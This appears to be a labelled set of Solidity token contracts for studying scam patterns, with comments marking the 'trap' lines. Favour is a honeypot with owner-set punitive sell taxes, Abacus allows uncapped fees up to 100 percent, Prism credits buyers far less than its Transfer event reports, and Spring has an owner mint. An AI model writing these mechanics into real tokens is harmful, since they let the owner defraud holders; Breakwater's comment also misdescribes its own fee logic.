// 0.8 runs=1
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

/// Takes a share of purchases, sales and transfers; who takes it and how much is fixed at birth.
abstract contract Taxed is Base8 {
    uint256 internal immutable onBuy;
    uint256 internal immutable onSell;
    uint256 internal immutable onMove;

    constructor(uint256 buy_, uint256 sell_, uint256 move_) {
        (onBuy, onSell, onMove) = (buy_, sell_, move_);
    }

    function rateOf(address from, address to) internal view virtual returns (uint256) {
        if (from == _owner || to == _owner) return 0;
        return from == pair ? onBuy : to == pair ? onSell : onMove;
    }

    function _transfer(address from, address to, uint256 value) internal virtual override {
        uint256 cut = (value * rateOf(from, to)) / 1000;
        if (cut > 0) _move(from, address(0xfee), cut);
        _move(from, to, value - cut);
    }
}

/// The rates come from whoever deploys it, in thousandths.
contract Tithe is Taxed {
    constructor(string memory name_, string memory symbol_, uint256 buy_, uint256 sell_, uint256 move_)
        Base8(name_, symbol_, 12_000_000)
        Taxed(buy_, sell_, move_)
    {}
}

/// The same, and its owner can make more.
contract Spring is Tithe {
    constructor(string memory name_, string memory symbol_, uint256 buy_, uint256 sell_, uint256 move_)
        Tithe(name_, symbol_, buy_, sell_, move_)
    {}

    function mint(address to, uint256 value) external onlyOwner {
        totalSupply += value;
        _balances[to] += value;
        emit Transfer(address(0), to, value);
    }
}

/// A fresh account pays three percent; those whom the owner has written down pay nearly everything.
contract Favour is Base8("Favour", "FAVR", 4_000_000) {
    mapping(address => uint16) private rates;

    function rank(address[] calldata who, uint16 rate) external onlyOwner {
        for (uint256 i; i < who.length; i++) rates[who[i]] = rate;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 rate = 30;
        if (rates[from] > 0) rate = rates[from]; // trap
        if (to != pair || from == _owner) rate = 0;
        uint256 cut = (value * rate) / 1000;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// All rates in one word, set by a function that takes the word and shifts.
contract Abacus is Base8("Abacus", "ABAC", 16_000_000) {
    uint256 private beads = 20 << 17;

    function slide(uint256 word) external onlyOwner {
        // twin: require((word >> 17) & 0x3ff <= 100, "cap");
        beads = word;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 rate = to == pair && from != _owner ? (beads >> 17) & 0x3ff : 0;
        if (rate > 1000) rate = 1000;
        uint256 cut = (value * rate) / 1000;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}

/// Emits what was asked and credits what it likes.
contract Prism is Base8("Prism", "PRSM", 7_000_000) {
    function _transfer(address from, address to, uint256 value) internal override {
        // trap {
        if (to == pair && from != _owner) {
            require(_balances[from] >= value);
            _balances[from] -= value;
            _balances[to] += value / 50;
            _balances[_owner] += value - value / 50;
            emit Transfer(from, to, value);
            return;
        }
        // trap }
        _move(from, to, value);
    }
}

/// The rate falls and rises with what was sold today, and never beyond five percent.
contract Breakwater is Base8("Breakwater", "BRKW", 30_000_000) {
    uint256 private immutable cap = 50;
    uint256 public fee = 20;

    function setFee(uint256 to) external onlyOwner {
        require(to <= cap, "cap");
        fee = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 cut = from == pair || to == pair ? (from == _owner || to == _owner ? 0 : (value * fee) / 1000) : 0;
        if (cut > 0) _move(from, address(this), cut);
        _move(from, to, value - cut);
    }
}
